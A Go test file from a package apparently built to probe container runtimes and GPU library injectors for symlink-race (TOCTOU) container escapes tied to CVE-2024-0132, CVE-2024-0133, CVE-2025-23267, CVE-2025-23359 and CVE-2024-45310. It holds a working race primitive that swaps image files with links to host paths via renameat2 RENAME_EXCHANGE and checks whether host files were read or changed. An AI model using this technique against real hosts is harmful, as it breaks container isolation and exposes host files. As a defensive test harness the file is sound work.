package escape

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"sync"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// raceAttacks are attacks by a process that writes to the image while its container is created, for
// instance another container with the same volume: at each path that an injector touches, the file
// and a link to the host are exchanged repeatedly. A check before the use of a path doesn't help.
func raceAttacks() []attack {
	var all []attack
	for _, p := range places() {
		if p.file == "etc/new" {
			continue // there is nothing to exchange
		}
		all = append(all, race(p, "a path is used again after it was checked: CVE-2024-0133, CVE-2025-23267", func(s *scene) {
			s.makeHostDirectory(p.file)
			if filepath.Ext(p.name) == "" {
				s.runCommand(os.MkdirAll(s.in(p.name), 0o755))
			} else if _, err := os.Lstat(s.in(p.name)); err != nil {
				s.write(s.in(p.name), "")
			}
		}))
	}
	const source = "a path of the image is mounted after it was checked: CVE-2024-0132, CVE-2025-23359"
	compat := func(s *scene) {
		s.library("usr/local/cuda/compat/libcuda.so.999.1", "libcuda.so.1")
		for _, name := range []string{
			"usr/local/nvidia/lib64/libcuda.so.1", "usr/local/berth/nvidia/lib64/libcuda.so.1", "usr/local/cuda/compat/libcuda.so.999.1", "etc/ld.so.cache",
		} {
			s.addCommand("cat /" + name)
		}
	}
	return append(all,
		race(place{name: "usr/local/cuda/compat", file: ""}, source, compat),
		race(place{name: "usr/local/cuda/compat/libcuda.so.999.1", file: "secret"}, source, compat),
	)
}

func race(p place, class string, build func(s *scene)) attack {
	return attack{
		name: "race/" + p.name, class: class,
		not: map[string]string{"engine": "no other process writes to the root that it makes of an image"},
		build: func(s *scene) {
			p.prepare(s)
			build(s)
			s.naively = []string{"--check", "--rounds", "50"}
			if p.mounted { // so that the injector loses the race, and not the runtime
				s.naively = append(s.naively, "--only-prepare")
			}
			s.play = func() { s.runRace(p) }
		},
		gained: gainOfRepeats,
	}
}

// runRace creates containers while the file is exchanged, until something is gained, or for all
// rounds.
func (s *scene) runRace(p place) {
	s.t.Helper()
	s.putRequest()
	s.store()
	spec, err := os.ReadFile(filepath.Join(s.bundle, "config.json"))
	s.runCommand(err)
	f, err := flip(s.in(p.name), filepath.Join(s.outside, p.file))
	s.runCommand(err)
	defer func() { s.runCommand(f.end()) }()
	starts, alone := max(1, *rounds/1000), *rounds
	if *everywhere {
		alone /= 4 // the four worlds share them
	}
	switch {
	case s.entryPoint == "naive":
		starts = 200
	case p.mounted || s.runtimeLoses():
		starts = 0
		s.prepared(alone)
	default:
		s.prepared(alone)
	}
	for range starts {
		if s.won != "" {
			return
		}
		s.write(filepath.Join(s.bundle, "config.json"), string(spec))
		s.runOnce()
		if s.entryPoint == "naive" {
			s.won = fileWasChanged(s) + fileWasRead(s)
		} else {
			s.won = s.checkAll()
		}
	}
}

// runtimeLoses reports whether the runtime itself loses the race, for any mount: runc before 1.1.14
// makes mount points where a path leads after the check (CVE-2024-45310). The wrapper leaves
// mounting to it.
func (s *scene) runtimeLoses() bool {
	if s.entryPoint != "wrapper" || s.w.runtime != "runc" {
		return false
	}
	var major, minor, patch int
	said := s.w.Do(s.t, "runc", "--version")
	if _, err := fmt.Sscanf(said, "runc version %d.%d.%d", &major, &minor, &patch); err != nil {
		s.t.Fatalf("%q: %v", said, err)
	}
	old := major < 1 || major == 1 && (minor < 1 || minor == 1 && patch < 14)
	if old {
		noteResult(tally.without, "race/*: no whole starts with wrapper and runc: runc before 1.1.14 loses the race itself (CVE-2024-45310)")
	}
	return old
}

// prepared runs only the code that prepares containers, because it is fast.
func (s *scene) prepared(rounds int) {
	s.t.Helper()
	self, err := os.Executable()
	s.runCommand(err)
	cmd := s.w.Command(self, racerWord, s.entryPoint, s.config(), s.bundle, s.outside, s.secret, fmt.Sprint(rounds))
	if said := s.w.Run(s.t, cmd); said.Code != 0 {
		s.won = "while it was prepared: " + said.Err
	}
}

// flipper exchanges a file of the image and a link until it is ended.
type flipper struct {
	path, link, target string
	stop               atomic.Bool
	done               sync.WaitGroup
	err                error
}

func flip(path, target string) (*flipper, error) {
	f := &flipper{path: path, link: path + ".other", target: target}
	if err := os.Symlink(target, f.link); err != nil {
		return nil, err
	}
	f.done.Go(func() {
		runtime.LockOSThread()
		for !f.stop.Load() && f.err == nil {
			f.err = f.exchange()
		}
	})
	return f, nil
}

// exchange exchanges the two. An injector that writes by renaming replaces the link: then there is
// a new one.
func (f *flipper) exchange() error {
	err := unix.Renameat2(unix.AT_FDCWD, f.path, unix.AT_FDCWD, f.link, unix.RENAME_EXCHANGE)
	for _, path := range []string{f.path, f.link} {
		var st unix.Stat_t
		if e := unix.Lstat(path, &st); e == nil && st.Mode&unix.S_IFMT == unix.S_IFLNK {
			return ignoreMissing(err)
		}
	}
	if e := os.RemoveAll(f.link); e != nil {
		return e
	}
	return ignoreMissing(os.Symlink(f.target, f.link))
}

func ignoreMissing(err error) error {
	if errors.Is(err, os.ErrNotExist) || errors.Is(err, os.ErrExist) {
		return nil
	}
	return err
}

// end leaves the file in its place.
func (f *flipper) end() error {
	f.stop.Store(true)
	f.done.Wait()
	return f.err
}
